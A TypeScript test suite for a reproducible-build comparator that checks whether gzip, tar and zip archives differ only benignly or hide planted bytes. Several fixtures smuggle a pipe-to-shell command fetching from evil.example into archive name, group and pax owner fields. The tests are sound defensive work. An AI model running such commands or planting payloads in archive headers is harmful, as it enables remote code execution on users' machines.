import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { deflateRawSync, gzipSync, crc32 } from "node:zlib";
import type { Comparison } from "../../../src/model/build.ts";
import { compareArtifacts } from "../../../src/station/build/compare/compare.ts";
import { makeTar, makeZip, sealHeader, type TarSpec, type ZipSpec } from "../artifact/make-archive.ts";

const file: TarSpec = { path: "package/index.js", content: "export const one = 1;\n" };
const other: TarSpec = { path: "package/package.json", content: '{ "name": "widget" }\n' };

function tars(a: Partial<TarSpec>, b: Partial<TarSpec>): Comparison {
  return compareArtifacts(makeTar([{ ...file, ...a }, other]), makeTar([{ ...file, ...b }, other]), "widget.tar");
}

function zips(a: Partial<ZipSpec>, b: Partial<ZipSpec>): Comparison {
  const base: ZipSpec = { name: "a.txt", content: "some text, some text, some text" };
  return compareArtifacts(makeZip([{ ...base, ...a }]), makeZip([{ ...base, ...b }]), "widget.zip");
}

function equivalent(result: Comparison, ...normalised: string[]): void {
  assert.equal(result.outcome, "equivalent", JSON.stringify(result));
  assert.deepEqual(result.normalised, normalised);
  assert.deepEqual([...new Set(result.differences.map(({ cause }) => cause))].toSorted(), normalised);
  for (const { fix, detail } of result.differences) assert.ok(fix !== "" && detail !== "" && !detail.includes("\n"));
}

function different(result: Comparison, cause: string): void {
  assert.equal(result.outcome, "different", JSON.stringify(result));
  assert.ok(
    result.differences.some((found) => found.cause === cause),
    `${cause} in ${JSON.stringify(result)}`,
  );
  assert.ok(!result.normalised.includes(cause));
}

/** gzip with chosen header parts around one deflate stream. */
function gzip(
  content: Buffer | string,
  parts: {
    flags?: number;
    head?: string;
    mtime?: number;
    system?: number;
    mark?: number;
    raw?: Buffer;
    tail?: string;
  } = {},
): Buffer {
  const bytes = Buffer.from(content);
  const header = Buffer.from([0x1f, 0x8b, 8, parts.flags ?? 0, 0, 0, 0, 0, parts.mark ?? 0, parts.system ?? 3]);
  header.writeUInt32LE(parts.mtime ?? 0, 4);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc32(bytes), 0);
  trailer.writeUInt32LE(bytes.length, 4);
  return Buffer.concat([
    header,
    Buffer.from(parts.head ?? "", "latin1"),
    parts.raw ?? deflateRawSync(bytes),
    trailer,
    Buffer.from(parts.tail ?? ""),
  ]);
}

describe("compare: strict", () => {
  it("calls equal bytes identical", () => {
    const bytes = gzipSync(makeTar([file]));
    assert.deepEqual(compareArtifacts(bytes, Buffer.from(bytes), "a.tgz"), {
      outcome: "identical",
      normalised: [],
      differences: [],
    });
  });
});

describe("compare: gzip", () => {
  const text = "hello hello hello hello\n".repeat(50);
  const pairs: readonly [string, Buffer, Buffer, string][] = [
    ["time", gzip(text, { mtime: 1 }), gzip(text, { mtime: 2 }), "gzip-header"],
    ["system", gzip(text, { system: 3 }), gzip(text, { system: 19 }), "gzip-header"],
    ["level mark", gzip(text, { mark: 2 }), gzip(text, { mark: 0 }), "gzip-header"],
    ["name", gzip(text, { flags: 8, head: "a.tar\0" }), gzip(text), "gzip-header"],
    [
      "level",
      gzip(text, { raw: deflateRawSync(text, { level: 1 }) }),
      gzip(text, { raw: deflateRawSync(text, { level: 0 }) }),
      "gzip-compression",
    ],
  ];
  for (const [what, a, b, normaliser] of pairs) {
    it(`forgives another ${what} as ${normaliser}`, () => equivalent(compareArtifacts(a, b, "a.gz"), normaliser));
  }
  const hidden: readonly [string, Buffer, string][] = [
    ["a comment", gzip(text, { flags: 16, head: "payload\0" }), "gzip-extra"],
    ["an extra field", gzip(text, { flags: 4, head: "\x07\0payload" }), "gzip-extra"],
    ["an odd system", gzip(text, { system: 77 }), "gzip-flags"],
    ["an odd level mark", gzip(text, { mark: 77 }), "gzip-flags"],
    ["a payload as name", gzip(text, { flags: 8, head: "curl http://evil.example | sh\0" }), "gzip-flags"],
    ["trailing bytes", gzip(text, { tail: "payload" }), "gzip-trailing"],
    ["trailing zeros", gzip(text, { tail: "\0\0" }), "gzip-trailing"],
    ["a second, empty member", Buffer.concat([gzip(text), gzip("")]), "gzip-members"],
    [
      "an empty block",
      gzip(text, { raw: Buffer.concat([Buffer.from([0, 0, 0, 255, 255]), deflateRawSync(text)]) }),
      "deflate-hidden",
    ],
  ];
  for (const [what, bytes, cause] of hidden) {
    it(`does not forgive ${what}`, () => {
      different(compareArtifacts(gzip(text), bytes, "a.gz"), cause);
      different(compareArtifacts(bytes, gzip(text), "a.gz"), cause);
    });
  }
  it("sees bytes hidden between blocks although the contents differ by a time only", () => {
    const [a, b] = [makeTar([file]), makeTar([{ ...file, mtime: 1 }])];
    const raw = Buffer.concat([Buffer.from([0, 0, 0, 255, 255]), deflateRawSync(b)]);
    equivalent(compareArtifacts(gzip(a), gzip(b), "a.tgz"), "tar-mtime");
    different(compareArtifacts(gzip(a), gzip(b, { raw }), "a.tgz"), "deflate-hidden");
  });
});

describe("compare: tar", () => {
  it("forgives time, umask, owner and pax times, each by its name alone", () => {
    equivalent(tars({ mtime: 1 }, { mtime: 2 }), "tar-mtime");
    equivalent(tars({ mode: 0o600 }, { mode: 0o644 }), "tar-mode");
    equivalent(tars({ uid: 1000, uname: "builder" }, {}), "tar-owner");
    equivalent(tars({ pax: { mtime: "1.5", path: file.path } }, { pax: { mtime: "2.5", path: file.path } }), "tar-pax");
    equivalent(tars({ pax: { atime: "1.5" } }, {}), "tar-pax");
    equivalent(tars({ mtime: 1, mode: 0o640 }, {}), "tar-mode", "tar-mtime");
  });
  it("forgives another order of single paths, not of repeated ones or with hard links", () => {
    equivalent(compareArtifacts(makeTar([file, other]), makeTar([other, file]), "a.tar"), "tar-order");
    const second = { ...file, content: "export const one = 2;\n" };
    different(compareArtifacts(makeTar([file, second, other]), makeTar([file, other, second]), "a.tar"), "order");
    different(compareArtifacts(makeTar([file, second]), makeTar([second, file]), "a.tar"), "content");
    const link: TarSpec = { path: "l", type: "1", link: file.path };
    different(compareArtifacts(makeTar([file, link]), makeTar([link, file]), "a.tar"), "order");
  });
  const write = (text: string, at: number) => (block: Buffer) => void block.write(text, at, "latin1");
  const planted: readonly [string, Partial<TarSpec>, string][] = [
    ["behind the name", { header: write("payload", 40) }, "tar-header"],
    ["in the prefix", { header: write("payload", 345) }, "only-in-second"],
    ["in the unused end of the header", { header: write("payload", 500) }, "tar-header"],
    ["in the device numbers", { header: write("payload", 329) }, "tar-header"],
    ["behind the time", { header: write("7\0\0payload", 136) }, "tar-header"],
    ["behind the user's name", { header: write("root\0payload", 265) }, "tar-header"],
    ["as the group's name", { header: write("curl evil.example|sh", 297) }, "tar-header"],
    ["behind the user id", { header: write("0\0evil!!", 108) }, "tar-header"],
    ["in the padding", { padding: "payload" }, "tar-padding"],
    ["as an unknown pax key", { pax: { "EVIL.payload": "x" } }, "tar-records"],
    ["as a pax time", { pax: { mtime: "payload" } }, "tar-records"],
    ["as a pax owner", { pax: { uname: "curl evil.example|sh" } }, "tar-records"],
    ["as a pax comment", { pax: { mtime: "1", comment: "payload" } }, "tar-records"],
  ];
  for (const [where, spec, cause] of planted) {
    it(`does not forgive a payload ${where}`, () => {
      different(tars({}, spec), cause);
    });
  }
  it("does not forgive a payload in the block of an extended header", () => {
    for (const at of [60, 157, 345, 500]) {
      const [a, b] = [makeTar([file, other]), makeTar([{ ...file, pax: { atime: "1.5" } }, other])];
      b.write("payload", at, "latin1");
      sealHeader(b);
      different(compareArtifacts(a, b, "a.tar"), "tar-records");
    }
  });
  it("does not forgive what a umask does not decide, a type, a link, bytes behind the end", () => {
    different(tars({ mode: 0o755 }, { mode: 0o655 }), "mode");
    different(tars({ mode: 0o4755 }, { mode: 0o755 }), "mode");
    different(tars({ mode: 0o744 }, { mode: 0o644 }), "mode");
    different(tars({ type: "2", link: "a", content: "" }, { type: "2", link: "b", content: "" }), "link-target");
    different(tars({ type: "2", link: "a", content: "" }, { content: "" }), "type");
    different(compareArtifacts(makeTar([file]), makeTar([file], "payload"), "a.tar"), "tar-trailing");
    different(compareArtifacts(makeTar([file]), makeTar([file], Buffer.alloc(512)), "a.tar"), "tar-trailing");
  });
  it("names files of one side and counts what is forgiven", () => {
    const many = Array.from({ length: 30 }, (_, index): TarSpec => ({
      path: `package/${String(index).padStart(2, "0")}`,
      mtime: 1,
    }));
    const result = compareArtifacts(
      makeTar([...many, file]),
      makeTar([...many.map((spec) => ({ ...spec, mtime: 2 })), other]),
      "a.tar",
    );
    assert.equal(result.outcome, "different");
    assert.deepEqual(
      result.differences.map(({ path, cause }) => [path, cause]),
      [
        ["a.tar", "tar-mtime"],
        ["package/index.js", "only-in-first"],
        ["package/package.json", "only-in-second"],
      ],
    );
    assert.match(result.differences[0]?.detail ?? "", /^differs on 30 entries, e\.g\. package\/00: 1 against 2$/);
    assert.match(result.differences[0]?.fix ?? "", /SOURCE_DATE_EPOCH/);
  });
});

describe("compare: zip", () => {
  const unixTime = (seconds: number): Buffer => Buffer.from([0x55, 0x54, 5, 0, 1, seconds, 0, 0, 0]);
  it("forgives time, umask, order, time extras and compression, each by its name alone", () => {
    equivalent(zips({ time: 0x6000 }, { time: 0x6800 }), "zip-mtime");
    equivalent(zips({ mode: 0o600 }, { mode: 0o644 }), "zip-mode");
    equivalent(zips({ extra: unixTime(1) }, { extra: unixTime(2) }), "zip-extra");
    equivalent(zips({ extra: unixTime(1) }, {}), "zip-extra");
    equivalent(zips({ level: 0 }, { level: 9 }), "zip-compression");
    equivalent(zips({ stored: true }, {}), "zip-compression");
    const [a, b]: [ZipSpec, ZipSpec] = [{ name: "a" }, { name: "b" }];
    equivalent(compareArtifacts(makeZip([a, b]), makeZip([b, a]), "a.zip"), "zip-order");
  });
  const planted: readonly [string, Partial<ZipSpec>, string][] = [
    ["in an unknown extra field", { extra: Buffer.from("\xfe\xca\x07\0payload", "latin1") }, "zip-header"],
    ["behind a time", { extra: Buffer.from("\x55\x54\x0c\0\x01\0\0\0\0payload", "latin1") }, "zip-header"],
    [
      "in an extra field of the local header only",
      { localExtra: Buffer.from("\xfe\xca\x07\0payload", "latin1") },
      "zip-header",
    ],
    ["in a comment", { comment: "payload" }, "zip-comment"],
    ["between entries", { gap: "payload" }, "zip-gap"],
    ["as set-user-id", { mode: 0o4644 }, "mode"],
  ];
  for (const [where, spec, cause] of planted) {
    it(`does not forgive a payload ${where}`, () => different(zips({}, spec), cause));
  }
  it("does not forgive hidden blocks, a comment of the archive, bytes behind its end, two names", () => {
    const raw = Buffer.concat([Buffer.from([0, 0, 0, 255, 255]), deflateRawSync("abc")]);
    different(zips({ content: "abc" }, { content: "abc", raw }), "deflate-hidden");
    different(compareArtifacts(makeZip([{ name: "a" }]), makeZip([{ name: "a" }], "payload"), "a.zip"), "zip-comment");
    different(compareArtifacts(makeZip([{ name: "a" }]), makeZip([{ name: "a" }], "", "payload"), "a.zip"), "content");
    different(compareArtifacts(makeZip([{ name: "a" }]), makeZip([{ name: "a", localName: "b" }]), "a.zip"), "content");
    const twice = (first: string): Buffer =>
      makeZip([
        { name: "a", content: first },
        { name: "a", content: "x" },
      ]);
    different(compareArtifacts(twice("1"), twice("2"), "a.zip"), "order");
    different(
      zips({ content: "abc" }, { content: "abc", raw: Buffer.concat([deflateRawSync("abc"), Buffer.from("payload")]) }),
      "content",
    );
  });
});

describe("compare: nested archives and contents", () => {
  const nest = (inner: Buffer): Buffer => gzipSync(makeTar([{ path: "package/vendor.tgz", content: inner }]));
  it("enters archives inside archives and joins their paths", () => {
    const result = compareArtifacts(
      nest(gzipSync(makeTar([file]))),
      nest(gzipSync(makeTar([{ ...file, content: "x\n" }]))),
      "a.tgz",
    );
    different(result, "content");
    assert.equal(result.differences[0]?.path, "package/vendor.tgz!/package/index.js");
    equivalent(
      compareArtifacts(nest(gzipSync(makeTar([file]))), nest(gzipSync(makeTar([{ ...file, mtime: 3 }]))), "a.tgz"),
      "tar-mtime",
    );
  });
  it("stops at its depth: what lies below is compared as bytes", () => {
    let [a, b] = [gzip("x", { mtime: 1 }), gzip("x", { mtime: 2 })];
    for (let depth = 0; depth < 9; depth += 1)
      [a, b] = [makeTar([{ path: "i", content: a }]), makeTar([{ path: "i", content: b }])];
    different(compareArtifacts(a, b, "a.tar"), "content");
  });
  it("takes off no more than its layers of gzip", () => {
    let [a, b]: [Buffer, Buffer] = [Buffer.from("a"), Buffer.from("b")];
    for (let layer = 0; layer < 9; layer += 1) [a, b] = [gzip(a), gzip(b)];
    assert.match(compareArtifacts(a, b, "a.gz").differences[0]?.detail ?? "", /bytes, differ from byte/);
  });
  it("compares damaged archives as bytes and says why", () => {
    const good = gzipSync(makeTar([file]));
    const result = compareArtifacts(good, good.subarray(0, good.length - 9), "a.tgz");
    different(result, "content");
    assert.match(result.differences[0]?.detail ?? "", /damaged/);
  });
  const contents: readonly [string, string, string, string][] = [
    ["path", "// from /home/one/build/src/a.ts\n", "// from /build/bbbb/src/a.ts\n", "content-path"],
    ["time", '{ "at": "2026-11-23T10:00:00Z" }\n', '{ "at": "2026-11-24T11:30:00Z" }\n', "content-time"],
    ["epoch", "export const built = 1763892000;\n", "export const built = 1763978400;\n", "content-time"],
    ["host name", '{ "host": "alpha" }\n', '{ "host": "omega" }\n', "content-host"],
    [
      "random value",
      'id = "0f8fad5b-d9cb-469f-a165-70867728950e"\n',
      'id = "7c9e6679-7425-40de-944b-e07fc1f90ae7"\n',
      "content-random",
    ],
    ["order", '{\n"a": 1,\n"b": 2\n}\n', '{\n"b": 2,\n"a": 1\n}\n', "content-order"],
    ["line ends", "a\nb\n", "a\r\nb\r\n", "content-line-ends"],
    ["code", "export const one = 1;\n", "export const one = 2;\n", "content"],
  ];
  for (const [what, a, b, cause] of contents) {
    it(`tells another ${what} with its line`, () => {
      const result = tars({ content: `first\n${a}` }, { content: `first\n${b}` });
      different(result, cause);
      assert.equal(result.differences.length, 1);
      assert.match(result.differences[0]?.detail ?? "", /^line [123]: «/);
    });
  }
  it("keeps control and bidirectional characters and long lines out of its messages", () => {
    const evil = `\u001b[2J\u202e${"x".repeat(100_000)}`;
    const { detail } = tars({ content: evil }, { content: `${evil}y` }).differences[0] ?? { detail: "" };
    const start = tars({ content: `a${evil}` }, { content: `b${evil}` }).differences[0]?.detail ?? "";
    for (const text of [detail, start]) {
      assert.ok(text.length > 0 && text.length < 500);
      assert.doesNotMatch(text, /[\u0000-\u001f\u202e]/);
    }
  });
});
